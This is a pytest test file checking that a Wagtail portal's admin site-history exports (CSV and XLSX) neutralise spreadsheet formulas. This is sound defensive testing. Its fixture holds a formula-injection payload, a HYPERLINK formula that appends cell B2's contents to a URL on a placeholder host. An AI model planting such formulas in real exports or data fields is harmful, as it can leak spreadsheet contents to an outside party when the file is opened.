"""Wagtail's admin exports (here the site history) neutralise formulas like every other
file the portal writes."""

import io

import openpyxl
import pytest
from wagtail.log_actions import log

from tests.network import factories as f

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.invalid/"&B2,"Bassin dijonnais")'


@pytest.fixture
def admin_client(client):
    admin = f.administrator()
    territory = f.TerritoryFactory(name=FORMULA)
    log(territory, "wagtail.edit", user=admin)
    client.force_login(admin)
    return client


def test_the_site_history_csv_carries_no_formula(admin_client):
    response = admin_client.get("/admin/reports/site-history/", {"export": "csv"})

    content = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in content
    assert ',"=HYPERLINK' not in content and "\n=HYPERLINK" not in content


def test_the_site_history_xlsx_writes_it_as_text(admin_client):
    response = admin_client.get("/admin/reports/site-history/", {"export": "xlsx"})

    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row
             if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
